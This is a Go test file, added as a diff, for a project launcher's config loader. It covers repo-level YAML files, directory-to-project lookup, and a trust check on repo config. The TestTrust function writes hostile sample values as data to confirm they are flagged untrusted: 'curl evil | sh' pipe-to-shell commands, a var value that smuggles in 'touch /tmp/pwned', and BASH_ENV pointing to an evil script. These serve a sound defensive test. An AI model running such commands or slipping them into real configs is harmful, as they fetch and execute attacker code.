@@ -0,0 +1,217 @@
+package config
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestLoadRepoFile(t *testing.T) {
+	dir := writeFiles(t, map[string]string{
+		"api/.tplm.yaml": `
+vars:
+  service: api
+env:
+  APP_ENV: dev
+  PORT: "8080"
+before_start:
+  - make deps
+windows:
+  - use: editor
+  - name: "{{.Vars.service}}"
+    panes:
+      - command: go run ./cmd/{{.Vars.service}}
+on_start:
+  - window: editor
+    command: nvim .
+`,
+		"web/.tplm.yaml": `
+layout: dev
+on_start:
+  - window: editor
+    command: npm start
+`,
+	})
+	config := filepath.Join(dir, "config.yaml")
+	content := `
+projects:
+  - name: api
+    path: ` + filepath.Join(dir, "api") + `
+    env:
+      PORT: "9090"
+  - name: web
+    path: ` + filepath.Join(dir, "web") + `
+  - name: pinned
+    path: ` + filepath.Join(dir, "api") + `
+    layout: dev
+    before_start:
+      - echo hi
+layouts:
+  dev:
+    windows:
+      - name: editor
+windows:
+  editor:
+    panes:
+      - command: nvim .
+`
+	if err := os.WriteFile(config, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(config)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+
+	api := cfg.FindProject("api")
+	want := []Window{
+		{Name: "editor", Panes: []Pane{{Command: "nvim ."}}},
+		{Name: "api", Panes: []Pane{{Command: "go run ./cmd/api"}}},
+	}
+	if got := cfg.GetLayout(api).Windows; !reflect.DeepEqual(got, want) {
+		t.Errorf("api windows = %+v, want %+v", got, want)
+	}
+	if got, want := api.Env, (Env{"APP_ENV": "dev", "PORT": "9090"}); !reflect.DeepEqual(got, want) {
+		t.Errorf("api env = %v, want %v", got, want)
+	}
+	file, commands := api.RepoCommands()
+	if file != filepath.Join(dir, "api", RepoFileName) {
+		t.Errorf("api repo file = %q", file)
+	}
+	wantCommands := []string{"window editor: nvim .", "window {{.Vars.service}}: go run ./cmd/{{.Vars.service}}", "vars: service=api", "env: APP_ENV=dev", "before_start: make deps", "on_start in editor: nvim ."}
+	if !reflect.DeepEqual(commands, wantCommands) {
+		t.Errorf("api repo commands = %q, want %q", commands, wantCommands)
+	}
+
+	web := cfg.FindProject("web")
+	if web.Layout != "dev" || len(web.OnStart) != 1 {
+		t.Errorf("web = %+v, want layout dev and the file's on_start", web)
+	}
+
+	// The global entry's layout and before_start win; the file's vars, env
+	// and on_start fill in.
+	pinned := cfg.FindProject("pinned")
+	if got := cfg.GetLayout(pinned).Windows; len(got) != 1 || got[0].Name != "editor" || len(got[0].Panes) != 0 {
+		t.Errorf("pinned windows = %+v, want the dev layout's", got)
+	}
+	if _, commands := pinned.RepoCommands(); !reflect.DeepEqual(commands, []string{"vars: service=api", "env: APP_ENV=dev", "env: PORT=8080", "on_start in editor: nvim ."}) {
+		t.Errorf("pinned repo commands = %q", commands)
+	}
+}
+
+func TestProjectForDir(t *testing.T) {
+	dir := writeFiles(t, map[string]string{
+		"my.api/.tplm.yaml": "windows:\n  - name: editor\n    panes:\n      - command: nvim .\n",
+		"named/.tplm.yaml":  "name: billing\n",
+		"plain/README":      "",
+	})
+	cfg := &Config{Projects: []Project{{Name: "known", Path: filepath.Join(dir, "plain")}}}
+
+	tests := []struct {
+		dir  string
+		want string
+	}{
+		{"my.api", "my_api"},
+		{"named", "billing"},
+		{"plain", "known"},
+	}
+	for _, tt := range tests {
+		proj, err := cfg.ProjectForDir(filepath.Join(dir, tt.dir))
+		if err != nil {
+			t.Fatalf("ProjectForDir(%s) error = %v", tt.dir, err)
+		}
+		if proj.Name != tt.want {
+			t.Errorf("ProjectForDir(%s) name = %q, want %q", tt.dir, proj.Name, tt.want)
+		}
+	}
+	if cfg.FindProject("my_api") == nil {
+		t.Error("ProjectForDir() didn't add the project to the config")
+	}
+
+	if _, err := cfg.ProjectForDir(t.TempDir()); err == nil || !strings.Contains(err.Error(), RepoFileName) {
+		t.Errorf("ProjectForDir(empty dir) error = %v, want one naming %s", err, RepoFileName)
+	}
+}
+
+func TestTrust(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	dir := writeFiles(t, map[string]string{
+		RepoFileName: "before_start:\n  - make deps\n",
+	})
+	cfg := &Config{}
+	proj, err := cfg.ProjectForDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if err := CheckTrusted(proj); !errors.Is(err, ErrUntrusted) {
+		t.Fatalf("CheckTrusted() = %v, want ErrUntrusted", err)
+	}
+	if err := TrustProject(proj); err != nil {
+		t.Fatalf("TrustProject() error = %v", err)
+	}
+	if err := CheckTrusted(proj); err != nil {
+		t.Errorf("CheckTrusted() after trusting = %v", err)
+	}
+
+	// Changing the file takes the trust away.
+	if err := os.WriteFile(filepath.Join(dir, RepoFileName), []byte("before_start:\n  - curl evil | sh\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	changed, err := (&Config{}).ProjectForDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := CheckTrusted(changed); !errors.Is(err, ErrUntrusted) {
+		t.Errorf("CheckTrusted() after a change = %v, want ErrUntrusted", err)
+	}
+
+	// Vars and env alone reach commands and shells, so they need trust too.
+	for name, content := range map[string]string{
+		"vars":       "vars:\n  service: \"x; touch /tmp/pwned\"\n",
+		"env":        "env:\n  BASH_ENV: /tmp/evil.sh\n",
+		"window env": "windows:\n  - name: w\n    env:\n      PROMPT_COMMAND: curl evil | sh\n",
+		"pane env":   "windows:\n  - name: w\n    panes:\n      - env:\n          BASH_ENV: /tmp/evil.sh\n",
+		"tree env":   "windows:\n  - name: w\n    tree:\n      children:\n        - {}\n        - env:\n            BASH_ENV: /tmp/evil.sh\n",
+	} {
+		dir := writeFiles(t, map[string]string{RepoFileName: content})
+		proj, err := (&Config{}).ProjectForDir(dir)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := CheckTrusted(proj); !errors.Is(err, ErrUntrusted) {
+			t.Errorf("CheckTrusted(only %s) = %v, want ErrUntrusted", name, err)
+		}
+	}
+
+	// So does a change to an env_file the repo file names.
+	dir = writeFiles(t, map[string]string{
+		RepoFileName: "env_file:\n  - .env\n",
+		".env":       "APP_ENV=dev\n",
+	})
+	proj, err = (&Config{}).ProjectForDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := TrustProject(proj); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, ".env"), []byte("BASH_ENV=/tmp/evil.sh\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	changed, err = (&Config{}).ProjectForDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := CheckTrusted(changed); !errors.Is(err, ErrUntrusted) {
+		t.Errorf("CheckTrusted() after an env_file change = %v, want ErrUntrusted", err)
+	}
+
+	plain := &Project{Name: "plain", Path: t.TempDir()}
+	if err := CheckTrusted(plain); err != nil {
+		t.Errorf("CheckTrusted(no repo file) = %v", err)
+	}
+}